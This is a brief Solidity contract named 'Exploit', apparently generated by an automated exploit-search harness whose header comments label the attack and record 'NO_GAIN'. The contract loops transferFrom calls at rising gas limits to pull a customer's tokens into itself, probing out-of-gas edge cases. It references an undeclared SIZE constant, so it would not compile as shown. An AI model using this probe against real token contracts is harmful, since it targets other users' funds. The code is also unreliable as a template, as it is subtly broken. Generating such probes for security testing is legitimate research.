// attack: calls that run out of gas at every point of what they call
// ends: NO_GAIN
// size: 30000
// control: 2
pragma solidity ^0.8.20;

contract Exploit {
    uint256 private kept;

    function run(address market, address token, address customer) external {
        market; token; customer;
        for (uint256 i; i < SIZE; i++) {
            (bool done,) = token.call{gas: i * 10}(abi.encodeWithSignature("transferFrom(address,address,uint256)", customer, address(this), 1));
            kept += done ? 1 : 0;
        }
    }
}
